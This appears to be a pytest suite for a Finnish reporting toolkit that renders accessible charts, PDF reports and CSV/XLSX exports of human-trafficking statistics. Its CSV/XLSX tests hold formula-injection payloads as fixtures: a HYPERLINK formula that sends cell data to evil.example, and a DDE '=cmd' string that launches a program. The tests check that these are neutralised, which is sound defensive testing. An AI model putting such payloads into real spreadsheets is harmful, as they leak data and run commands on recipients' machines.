"""The shared report toolkit: accessible charts, PDF reports, CSV/XLSX without formula injection."""

from __future__ import annotations

import csv
import io
import math
import warnings
import xml.etree.ElementTree as ET
from concurrent.futures import ThreadPoolExecutor

import numpy as np
import pytest
from matplotlib.figure import Figure
from matplotlib.lines import Line2D
from openpyxl import load_workbook
from pypdf import PdfReader

from opennrm.reports import (
    Chart,
    Document,
    Sheet,
    bar_chart,
    line_chart,
    progress_chart,
    to_csv,
    to_xlsx,
)
from opennrm.reports.pdf import is_number
from opennrm.reports.spreadsheets import neutralise, sheet_title

SVG = "{http://www.w3.org/2000/svg}"
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
REGIONS = ["Uusimaa", "Pirkanmaa", "Varsinais-Suomi", "Lappi", "Åland"]


def regional(
    series: dict[str, list[float | None]] | None = None, *, stacked: bool = False
) -> Chart:
    return bar_chart(
        title="Tunnistetut uhrit alueittain",
        categories=REGIONS,
        series=series or {"2023": [41, 12, 9, None, 3], "2024": [55, 14, 11, 6, 0]},
        value_label="Henkilöä",
        stacked=stacked,
        suppressed_label="peitetty",
    )


def parse(svg: str) -> ET.Element:
    return ET.fromstring(svg)  # noqa: S314 - our own renderer's output, not untrusted input


def texts(root: ET.Element) -> list[str]:
    return [t.text or "" for t in root.iter(f"{SVG}text")]


def drawn(chart: Chart) -> Figure:
    figure = Figure(figsize=chart.size_in)
    chart.draw(figure)
    return figure


def floats(data: object) -> list[float]:
    return [float(v) for v in np.asarray(data, dtype=float)]


def suppressed_markers(figure: Figure) -> list[Line2D]:
    ax = figure.axes[0]
    return [line for line in ax.get_lines() if line.get_marker() == "x"]


# --- charts: SVG --------------------------------------------------------------------------


def test_svg_is_inline_ready_and_labelled_for_screen_readers() -> None:
    svg = regional().svg()
    assert not svg.startswith("<?xml")
    assert "<!DOCTYPE" not in svg
    root = parse(svg)
    assert root.tag == f"{SVG}svg"
    assert root.get("role") == "img"
    assert root.get("width") == "100%"
    assert root.get("height") is None
    assert root.get("viewBox")
    ids = {element.get("id") for element in root.iter() if element.get("id")}
    title = root.find(f"{SVG}title")
    desc = root.find(f"{SVG}desc")
    assert title is not None and desc is not None
    assert title.text == "Tunnistetut uhrit alueittain"
    assert root.get("aria-labelledby") == title.get("id")
    assert title.get("id") in ids
    assert root.get("aria-describedby") == desc.get("id")
    assert desc.text is not None
    assert "Uusimaa: 41" in desc.text
    assert "Lappi: peitetty" in desc.text
    assert "2024" in desc.text


def test_svg_keeps_labels_as_text_with_finnish_and_swedish_letters() -> None:
    labels = texts(parse(regional().svg()))
    for region in ["Uusimaa", "Pirkanmaa", "Lappi", "Åland"]:
        assert region in labels
    assert "Henkilöä" in labels
    assert "Tunnistetut uhrit alueittain" in labels


def test_suppressed_marker_and_legend_only_when_a_cell_is_suppressed() -> None:
    with_gap = regional()
    assert "peitetty" in texts(parse(with_gap.svg()))
    assert len(suppressed_markers(drawn(with_gap))) == 1

    complete = regional({"2023": [41, 12, 9, 7, 3]})
    svg = complete.svg()
    assert "peitetty" not in svg
    assert suppressed_markers(drawn(complete)) == []


def test_suppressed_cell_is_not_drawn_as_a_zero_bar() -> None:
    figure = drawn(regional())
    ax = figure.axes[0]
    # ten cells, one suppressed: nine bars; the true zero for Åland 2024 is a bar
    assert len(ax.patches) == 9
    (marker,) = suppressed_markers(figure)
    x = floats(marker.get_xdata())
    assert len(x) == 1
    assert 2.5 < x[0] < 3.0  # the 2023 half of the Lappi group (index 3)


def test_two_charts_on_one_page_share_no_ids() -> None:
    first, second = regional().svg(), regional().svg()
    ids_first = {e.get("id") for e in parse(first).iter() if e.get("id")}
    ids_second = {e.get("id") for e in parse(second).iter() if e.get("id")}
    assert ids_first and ids_second
    assert ids_first.isdisjoint(ids_second)
    # every reference points at an id of its own chart
    for svg, ids in [(first, ids_first), (second, ids_second)]:
        for reference in [part.split(")")[0] for part in svg.split("url(#")[1:]]:
            assert reference in ids


def test_counts_get_integer_ticks() -> None:
    chart = bar_chart(title="Pienet luvut", categories=["Oulu", "Kemi"], series={"n": [1, 2]})
    figure = drawn(chart)
    ticks = figure.axes[0].get_yticks()
    assert all(float(t).is_integer() for t in ticks)


def test_long_labels_turn_the_chart_horizontal() -> None:
    categories = [f"Pohjois-Pohjanmaan hyvinvointialue, palvelualue {i}" for i in range(12)]
    chart = bar_chart(title="Palvelualueet", categories=categories, series={"n": list(range(12))})
    ax = drawn(chart).axes[0]
    labels = [t.get_text().replace("\n", " ") for t in ax.get_yticklabels()]
    assert labels == categories
    fewer = bar_chart(title="Palvelualueet", categories=categories[:3], series={"n": [1, 2, 3]})
    assert chart.size_in[1] > fewer.size_in[1]  # the figure grows with the number of bars


def test_stacked_bars_stack() -> None:
    chart = regional(stacked=True, series={"Naiset": [10, 5, 3, 2, 1], "Miehet": [20, 7, 4, 2, 1]})
    ax = drawn(chart).axes[0]
    tops = sorted(p.get_y() + p.get_height() for p in ax.patches)  # type: ignore[attr-defined]
    assert max(tops) == 30


def test_series_length_must_match_categories() -> None:
    with pytest.raises(ValueError, match="2023"):
        regional({"2023": [1, 2]})


def test_line_chart_breaks_at_suppressed_points_and_shows_the_target() -> None:
    chart = line_chart(
        title="Ilmoitukset vuosittain",
        x=["2021", "2022", "2023", "2024"],
        series={"Työperäinen hyväksikäyttö": [80, None, 120, 131]},
        value_label="Ilmoituksia",
        target=100,
        target_label="tavoite",
        suppressed_label="peitetty",
    )
    figure = drawn(chart)
    data_line = figure.axes[0].get_lines()[0]
    y = floats(data_line.get_ydata())
    assert math.isnan(y[1])
    assert [y[0], y[2], y[3]] == [80.0, 120.0, 131.0]
    root = parse(chart.svg())
    labels = texts(root)
    assert "tavoite" in labels
    assert "peitetty" in labels
    desc = root.find(f"{SVG}desc")
    assert desc is not None and desc.text is not None
    assert "2022: peitetty" in desc.text
    assert "tavoite: 100" in desc.text


def test_progress_chart_states_values_and_targets() -> None:
    chart = progress_chart(
        title="Toimintasuunnitelman mittarit",
        labels=["Koulutetut poliisit", "Työsuojelutarkastukset", "Auttamisjärjestelmään ohjatut"],
        values=[45, 80, 120],
        targets=[60, 75, None],
        target_label="tavoite",
    )
    assert chart.description.startswith("Toimintasuunnitelman mittarit.")
    assert "Koulutetut poliisit: 45% (tavoite 60%)" in chart.description
    assert "Auttamisjärjestelmään ohjatut: 120%" in chart.description
    labels = texts(parse(chart.svg()))
    assert "45% / 60%" in labels
    assert "Työsuojelutarkastukset" in labels
    with pytest.raises(ValueError):
        progress_chart(title="x", labels=["a"], values=[1, 2], targets=[None])


def test_description_names_only_the_first_values() -> None:
    categories = [f"Kunta {i}" for i in range(30)]
    chart = bar_chart(title="Kunnat", categories=categories, series={"n": list(range(30))})
    assert "Kunta 11: 11" in chart.description
    assert "Kunta 12" not in chart.description
    assert chart.description.endswith("…")


def test_png_renders_finnish_labels_without_missing_glyphs() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # matplotlib warns on a glyph missing from the font
        png = regional().png()
    assert png.startswith(PNG_SIGNATURE)
    assert len(png) > 10_000
    assert len(regional().png(dpi=300)) > len(png)


# --- PDF ----------------------------------------------------------------------------------

HEADERS = ["Alue", "Uhrit", "Osuus %"]


def long_table() -> list[list[str]]:
    return [
        [f"Kunta {i} (Pohjois-Savo)", str(i * 7), f"{i / 2:.1f}".replace(".", ",")]
        for i in range(70)
    ]


def report() -> bytes:
    document = Document(
        title="Ihmiskaupan tilastot 2024",
        subtitle="Tunnistetut uhrit",
        footer="OpenNRM · julkinen",
    )
    document.heading("Yhteenveto")
    document.paragraph(
        "Työperäinen hyväksikäyttö on yleisin muoto. Tapauksia: Nguyễn Thị Lan, "
        "Chukwuemeka Okafor, Ștefan Popescu, Олена Коваленко."
    )
    document.key_values([("Julkaistu", "15.3.2025"), ("Lähde", "Auttamisjärjestelmä")])
    document.chart(regional())
    document.heading("Kunnittain", 2)
    document.table(HEADERS, long_table(), caption="Taulukko 1. Uhrit kunnittain")
    return document.bytes()


@pytest.fixture(scope="module")
def pdf() -> PdfReader:
    return PdfReader(io.BytesIO(report()))


def test_pdf_carries_its_title_in_the_metadata(pdf: PdfReader) -> None:
    assert pdf.metadata is not None
    assert pdf.metadata.title == "Ihmiskaupan tilastot 2024"
    assert pdf.metadata.subject == "Tunnistetut uhrit"


def test_pdf_text_keeps_finnish_and_foreign_names(pdf: PdfReader) -> None:
    first = pdf.pages[0].extract_text()
    assert "Yhteenveto" in first
    assert "Työperäinen hyväksikäyttö" in first
    assert "Nguyễn Thị Lan" in first
    assert "Ștefan Popescu" in first
    assert "Олена Коваленко" in first
    assert "Lähde" in first and "Auttamisjärjestelmä" in first


def test_pdf_is_a4_with_page_numbers_and_footer_on_every_page(pdf: PdfReader) -> None:
    total = len(pdf.pages)
    assert total >= 2
    for number, page in enumerate(pdf.pages, start=1):
        assert round(float(page.mediabox.width)) == 595  # A4 in points
        assert round(float(page.mediabox.height)) == 842
        text = page.extract_text()
        assert f"{number} / {total}" in text
        assert "OpenNRM · julkinen" in text


def test_pdf_table_values_and_header_repeated_after_a_page_break(pdf: PdfReader) -> None:
    pages = [page.extract_text() for page in pdf.pages]
    whole = "\n".join(pages)
    assert "Kunta 69 (Pohjois-Savo) 483 34,5" in whole
    with_rows = [text for text in pages if "(Pohjois-Savo)" in text]
    assert len(with_rows) >= 2
    for text in with_rows:
        assert "Alue Uhrit Osuus %" in text


def test_pdf_embeds_the_chart_and_outlines_the_headings(pdf: PdfReader) -> None:
    assert sum(len(page.images) for page in pdf.pages) == 1
    assert [item.title for item in pdf.outline if not isinstance(item, list)] == ["Yhteenveto"]


def test_pdf_finished_once() -> None:
    document = Document(title="Toimintasuunnitelma")
    document.paragraph("Edistyminen")
    first = document.bytes()
    assert document.bytes() == first
    with pytest.raises(RuntimeError):
        document.paragraph("liian myöhään")


def test_pdf_table_rejects_ragged_rows() -> None:
    document = Document(title="t")
    with pytest.raises(ValueError, match="row 1"):
        document.table(HEADERS, [["a", "1", "2"], ["b", "1"]])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("12", True),
        ("1 234", True),
        ("12,5", True),
        ("-3", True),
        ("\u22123", True),
        ("45 %", True),
        ("–", True),
        ("Uusimaa", False),
        ("2023–2024", False),
        ("+358 40 123 4567", True),
        ("", False),
    ],
)
def test_numbers_are_recognised_for_right_alignment(text: str, expected: bool) -> None:
    assert is_number(text) is expected


# --- CSV ----------------------------------------------------------------------------------

NASTY: list[list[str | int | float | None]] = [
    ['=HYPERLINK("http://evil.example/?d="&A1,"klikkaa")', 1, 2.5],
    ["+358 40 123 4567", -3, None],
    ["@SUM(A1:A2)", 0, -1.5],
    ["\tTab", 4, 5],
    ['Kivinen, Mäkelä "Oy"', 6, 7],
    ["-10 % tavoite", 8, 9],
]


def test_csv_has_bom_crlf_and_round_trips() -> None:
    data = to_csv(["Nimi", "Määrä", "Osuus"], NASTY)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    assert data.count(b"\n") == data.count(b"\r\n")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Nimi", "Määrä", "Osuus"]
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?d="&A1,"klikkaa")', "1", "2.5"]
    assert rows[2] == ["'+358 40 123 4567", "-3", ""]
    assert rows[3] == ["'@SUM(A1:A2)", "0", "-1.5"]
    assert rows[4] == ["'\tTab", "4", "5"]
    assert rows[5] == ['Kivinen, Mäkelä "Oy"', "6", "7"]
    assert rows[6] == ["'-10 % tavoite", "8", "9"]


def test_csv_neutralises_headers_too() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["=cmd|' /C calc'!A0"], []).decode("utf-8-sig"))))
    assert rows == [["'=cmd|' /C calc'!A0"]]


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise("Nguyễn Văn An") == "Nguyễn Văn An"
    assert neutralise("\rcarriage") == "'\rcarriage"
    assert neutralise("") == ""


# --- XLSX ---------------------------------------------------------------------------------


def workbook_of(*sheets: Sheet):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(to_xlsx(sheets)))


def test_xlsx_header_bold_frozen_and_values_typed() -> None:
    sheet = Sheet(
        title="Uhrit 2024",
        headers=["Nimi", "Määrä", "Osuus"],
        rows=NASTY,
        note="Tyhjät solut on peitetty (alle 5).",
    )
    ws = workbook_of(sheet)["Uhrit 2024"]
    assert ws.freeze_panes == "A2"
    assert all(cell.font.bold for cell in ws[1])
    assert [cell.value for cell in ws[1]] == ["Nimi", "Määrä", "Osuus"]
    assert ws["B2"].value == 1 and isinstance(ws["B2"].value, int)
    assert ws["C2"].value == 2.5
    assert ws["B3"].value == -3 and ws["B3"].data_type == "n"
    assert ws["C3"].value is None
    assert ws["A2"].value.startswith("'=HYPERLINK(")
    assert ws["A2"].data_type == "s"
    assert ws["A3"].value == "'+358 40 123 4567"
    assert ws["A6"].value == 'Kivinen, Mäkelä "Oy"'
    assert ws.cell(row=len(NASTY) + 3, column=1).value == "Tyhjät solut on peitetty (alle 5)."
    assert ws.column_dimensions["A"].width > len("Nimi") + 2


def test_xlsx_formula_text_is_stored_as_a_string() -> None:
    ws = workbook_of(Sheet(title="Kaavat", headers=["=1+1"], rows=[["=1+1"]])).active
    assert ws["A1"].value == "'=1+1"
    assert ws["A2"].value == "'=1+1"
    assert ws["A2"].data_type == "s"


def test_xlsx_sheet_titles_are_valid_and_unique() -> None:
    title = "Uhrit [2024]: alueet / kunnat * ? \\ ja hyvinvointialueet"
    workbook = workbook_of(
        Sheet(title=title, headers=["a"], rows=[[1]]),
        Sheet(title=title, headers=["a"], rows=[[2]]),
    )
    names = workbook.sheetnames
    assert len(names) == 2 and len(set(names)) == 2
    for name in names:
        assert len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
    assert sheet_title("") == "Sheet"
    assert sheet_title("Uusimaa", {"uusimaa"}) == "Uusimaa (2)"


def test_xlsx_needs_a_sheet() -> None:
    with pytest.raises(ValueError):
        to_xlsx([])


def test_charts_render_correctly_from_many_threads() -> None:
    def render(i: int) -> str:
        return bar_chart(
            title=f"Alue {i}", categories=["Oulu", "Kemi"], series={"n": [i, None]}
        ).svg()

    with ThreadPoolExecutor(max_workers=6) as pool:
        results = list(pool.map(render, range(18)))
    for i, svg in enumerate(results):
        root = parse(svg)
        title = root.find(f"{SVG}title")
        assert title is not None and title.text == f"Alue {i}"
        assert str(i) in texts(root)


def test_svg_has_no_inline_styles_for_the_content_security_policy() -> None:
    # Pages are served with style-src 'self': a style attribute or <style> element in an
    # inline SVG would be ignored and every shape drawn black.
    for chart in (
        bar_chart(title="Ilmoitukset", categories=["Vantaa", "Espoo"], series={"n": [7, None]}),
        line_chart(title="Kuukausittain", x=["1/2026", "2/2026"], series={"n": [5, 9]}),
        progress_chart(title="Eteneminen", labels=["Koulutus"], values=[40], targets=[80]),
    ):
        svg = chart.svg()
        assert "style=" not in svg
        assert "<style" not in svg
        assert 'fill="#1d70b8"' in svg or 'stroke="#1d70b8"' in svg


def test_a_chart_under_a_page_heading_need_not_repeat_its_title() -> None:
    shown = bar_chart(title="Uhrit maakunnittain", categories=["Uusimaa"], series={"n": [8]})
    quiet = bar_chart(
        title="Uhrit maakunnittain", categories=["Uusimaa"], series={"n": [8]}, show_title=False
    )
    assert "Uhrit maakunnittain" in texts(parse(shown.svg()))
    assert "Uhrit maakunnittain" not in texts(parse(quiet.svg()))
    # The accessible name stays.
    title = parse(quiet.svg()).find(f"{SVG}title")
    assert title is not None and title.text == "Uhrit maakunnittain"
